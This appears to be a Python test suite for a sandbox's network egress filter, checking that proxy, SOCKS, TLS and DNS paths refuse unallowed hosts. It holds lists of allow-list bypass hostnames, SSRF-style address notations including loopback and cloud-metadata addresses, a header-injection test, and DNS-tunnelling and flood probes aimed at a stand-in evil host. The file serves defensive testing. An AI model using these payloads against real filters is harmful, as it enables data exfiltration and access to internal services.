"""Names and addresses that were not granted, at every door: nothing is looked up and nobody dialled."""

import asyncio
import contextlib
import socket
import threading
from pathlib import Path

import pytest

from tests.sandbox.egress.outside import CHARGE, Inside, client_hello, dns_query, inside, outside

pytestmark = pytest.mark.anyio

ALLOWED = ("example.com", "*.good.example")
LOOKALIKES = (
    b"example.com.evil.test",
    b"notexample.com",
    b"example.com.evil.test.",
    b"EXAMPLE.COM.EVIL.TEST",
    b"evil.test\x00.good.example",
    b"evil.test\x00example.com",
    b"evil.test%00.good.example",
    b"evil.test%2f.good.example",
    b"evil.test/.good.example",
    b"evil.test#.good.example",
    b"evil.test?.good.example",
    b"evil.test\\.good.example",
    b"user@example.com",
    b"example.com@evil.test",
    b"example.com:80@evil.test",
    b"evil.test .good.example",
    b"evil.test\t.good.example",
    b"example.com..",
    b".example.com",
    b"example..com",
    b"good.example",
    b"good.example.evil.test",
    b"-a.good.example",
    b"a-.good.example",
    b"a_b.good.example",
    b"*.good.example",
    b"a" * 64 + b".good.example",
    b"a." * 121 + b"good.example",
    "ex\u0430mple.com".encode(),  # a Cyrillic letter
    "example\u3002com".encode(),  # an ideographic full stop
    "\uff45xample.com".encode(),  # a full-width letter
    b"xn--exmple-cua.com",
    b"",
)
ADDRESSES = (
    b"93.184.216.1", b"127.0.0.1", b"127.1", b"2130706433", b"0177.0.0.1", b"0x7f.0.0.1", b"0x7f000001",
    b"017700000001", b"127.0.0.1.", b"127.000.000.001", b"0", b"0.0.0.0", b"10.0.0.1", b"169.254.169.254",
    b"[::1]", b"[::ffff:127.0.0.1]", b"[::ffff:7f00:1]", b"[64:ff9b::7f00:1]", b"[2002:7f00:1::]",
    b"[fe80::1%25eth0]", b"[fd00:ec2::254]", b"1.2.3", b"1.2.3.4.5", b"256.1.1.1",
)  # fmt: skip


async def knock_everywhere(box: Inside, name: bytes, port: int = 80) -> bytes:
    """Ask for `name` at every door and return all that came back."""
    number = str(port).encode()
    size = bytes((len(name) % 256,))
    end = b" HTTP/1.1\r\nHost: "
    get = b"GET / HTTP/1.1\r\n\r\n"
    packed = port.to_bytes(2)
    asked = [
        box.talk(3128, b"CONNECT " + name + b":" + number + end + name + b"\r\n\r\n", get),
        box.talk(3128, b"GET http://" + name + b":" + number + b"/" + end + name + b"\r\n\r\n"),
        box.talk(80, b"GET /" + end + name + b"\r\nConnection: close\r\n\r\n"),
        box.talk(443, client_hello(name)),
        box.talk(1080, b"\x05\x01\x00", b"\x05\x01\x00\x03" + size + name + packed, get),
        box.talk(1080, b"\x04\x01" + packed + b"\x00\x00\x00\x01\x00" + name + b"\x00", get),
    ]
    return b"".join(await asyncio.gather(*asked))


@pytest.mark.attack(25)
async def test_names_that_only_look_like_an_allowed_one(tmp_path: Path) -> None:
    async with outside(tmp_path, "example.com") as world, inside(world, tmp_path, *ALLOWED) as box:
        world.credulous = True
        for name in LOOKALIKES:
            came = await knock_everywhere(box, name)
            assert CHARGE not in came, name
            assert (world.lookups, world.dials, world.requests) == ([], [], []), name
        assert all(event.host.isascii() and event.host.isprintable() for event in box.blocked)
        # The control: the names themselves, however they are written, arrive.
        written = (
            b"example.com",
            b"example.com.",
            b"EXAMPLE.com",
            b"a.good.example",
            b"xn--x-kva.good.example",
        )
        for name in written:
            came = await box.talk(80, b"GET / HTTP/1.1\r\nHost: " + name + b"\r\nConnection: close\r\n\r\n")
            assert CHARGE in came, name
        assert world.lookups[:3] == ["example.com"] * 3


@pytest.mark.attack(25)
async def test_a_second_host_hidden_in_a_line_break(tmp_path: Path) -> None:
    async with outside(tmp_path, "example.com") as world, inside(world, tmp_path, *ALLOWED) as box:
        world.credulous = True
        for line in (
            b"evil.test\r\nHost: example.com",
            b"example.com\r\nHost: evil.test",
            b"example.com\nHost: evil.test",
        ):
            came = await box.talk(80, b"GET / HTTP/1.1\r\nHost: " + line + b"\r\n\r\n")
            assert CHARGE not in came, line
        assert world.dials == []


@pytest.mark.attack(25, 24)
async def test_lookalikes_have_no_address(tmp_path: Path) -> None:
    async with outside(tmp_path) as world, inside(world, tmp_path, *ALLOWED) as box:
        for name in LOOKALIKES:
            text = name.decode("latin-1")
            labels = text.split(".")
            if len(text) > 253 or any(not 0 < len(label) < 64 for label in labels):
                continue
            answer = await box.query(dns_query(text))
            assert answer[3] & 15 == 3, name
        # A dot within one label is no border between two.
        hidden = (
            b"\x12\x34\x01\x00\x00\x01" + bytes(6) + b"\x09evil.test\x04good\x07example\x00\x00\x01\x00\x01"
        )
        assert (await box.query(hidden))[3] & 15 == 3
        assert world.lookups == []


@pytest.mark.attack(23)
@pytest.mark.parametrize("network", ["none", "open"])
async def test_addresses_in_every_notation(tmp_path: Path, network: str) -> None:
    async with outside(tmp_path) as world, inside(world, tmp_path, "example.com", network=network) as box:
        world.credulous = True
        for name in ADDRESSES:
            came = await knock_everywhere(box, name)
            assert CHARGE not in came, name
            assert (world.lookups, world.dials, world.requests) == ([], [], []), name
        for address in (b"\x01\x7f\x00\x00\x01", b"\x01\x5d\xb8\xd8\x01", b"\x04" + bytes(15) + b"\x01"):
            asked = b"\x05\x01\x00" + address + b"\x00\x50"
            assert CHARGE not in await box.talk(1080, b"\x05\x01\x00", asked, b"GET / HTTP/1.1\r\n\r\n")
        assert not world.reached
    # The control: one address, named by a person, is let through and no other.
    async with outside(tmp_path) as world, inside(world, tmp_path, "127.0.0.1:8080") as box:
        assert CHARGE in await box.proxied("http://127.0.0.1:8080/")
        assert CHARGE not in await box.proxied("http://127.0.0.1:80/")
        assert CHARGE not in await box.proxied("http://127.0.0.2:8080/")
        assert world.dials == [("127.0.0.1", 8080)]


@pytest.mark.attack(23)
async def test_other_ports_of_an_allowed_host(tmp_path: Path) -> None:
    async with outside(tmp_path, "example.com") as world, inside(world, tmp_path, "example.com") as box:
        for port in (22, 25, 8080, 8443, 6379):
            assert b"403 " in await box.proxied(f"http://example.com:{port}/")
            assert b"403 " in await box.secure("example.com", b"", port=port)
            socks = b"\x05\x01\x00\x03\x0bexample.com" + port.to_bytes(2)
            assert b"\x05\x02" in await box.talk(1080, b"\x05\x01\x00", socks, b"")
            assert b"403 " in await box.talk(80, b"GET / HTTP/1.1\r\nHost: example.com:%d\r\n\r\n" % port)
        assert not world.reached
        assert ("example.com", "port not allowed") in box.reasons


@pytest.mark.attack(23)
async def test_no_datagrams_and_no_bound_ports_by_way_of_the_proxy(tmp_path: Path) -> None:
    async with outside(tmp_path, "example.com") as world, inside(world, tmp_path, network="open") as box:
        for command in (2, 3, 9):
            asked = bytes((5, command, 0, 3)) + b"\x0bexample.com\x00\x50"
            came = await box.talk(1080, b"\x05\x01\x00", asked, b"")
            assert came[2:4] == b"\x05\x07"
        assert not world.reached


@pytest.mark.attack(24)
async def test_a_tunnel_through_name_resolution(tmp_path: Path) -> None:
    async with outside(tmp_path, "example.com") as world, inside(world, tmp_path, "example.com") as box:
        world.credulous = True
        for number in range(1500):
            kind = (1, 16, 10, 5, 28, 65, 255)[number % 7]
            answer = await box.asks(f"{number:04x}deadbeef{'ab' * 20}.t.evil.test", kind)
            assert answer[3] & 15 == 3
            assert answer[6:12] == bytes(6), "no record comes back"
        stream = dns_query("secret.t.evil.test")
        await box.talk(53, len(stream).to_bytes(2) + stream, until=b"evil")
        assert world.lookups == [], "nobody outside was asked"
        assert len(box.events) < 1100, "what is written down is bounded"
        # Over HTTPS, to a resolver that nobody granted.
        assert b"403 " in await box.secure("dns.example.net", b"")
        assert world.dials == []


@pytest.mark.attack(24)
async def test_records_of_an_allowed_name_hold_nothing(tmp_path: Path) -> None:
    async with outside(tmp_path) as world, inside(world, tmp_path, "*.example.com") as box:
        for kind in (16, 5, 15, 2, 33, 65, 64, 28):
            answer = await box.asks("data.example.com", kind)
            assert (answer[3] & 15, answer[6:8]) == (0, b"\x00\x00")
        assert world.lookups == []


@pytest.mark.attack(24, 36)
async def test_a_flood_of_questions_leaves_room_for_others(tmp_path: Path) -> None:
    async with outside(tmp_path, "example.com") as world, inside(world, tmp_path, "example.com") as box:
        stop, sent = threading.Event(), threading.Event()

        def flood() -> None:
            message = dns_query("x.evil.test")
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
                sender.connect(("127.0.0.1", box.question))
                for _ in range(400_000):
                    with contextlib.suppress(OSError):
                        sender.send(message)
                    sent.set()
                    if stop.is_set():
                        return

        flooding = threading.Thread(target=flood)
        flooding.start()
        try:
            await asyncio.to_thread(sent.wait)
            for _ in range(5):
                assert CHARGE in await box.proxied("http://example.com/")
        finally:
            stop.set()
            await asyncio.to_thread(flooding.join)
        assert len(world.requests) == 5
        assert len(box.events) < 100


@pytest.mark.attack(24)
async def test_broken_questions_break_nothing(tmp_path: Path) -> None:
    async with outside(tmp_path, "example.com") as world, inside(world, tmp_path, "example.com") as box:
        good = dns_query("example.com")
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.connect(("127.0.0.1", box.question))
            for broken in (
                b"",
                b"\x00",
                good[:11],
                good[:-1],
                good[:12] + b"\xc0\x0c\x00\x01\x00\x01",
                good[:12] + b"\xff" * 40,
                b"\x12\x34\x81" + good[3:],
                good[:4] + b"\x00\x09" + good[6:],
                good + b"x" * 900,
            ):
                sender.send(broken)
        for length in (0, 1, 65535):
            await box.talk(53, length.to_bytes(2) + b"x" * length)
        assert (await box.asks("example.com"))[3] & 15 == 0
        assert not world.reached
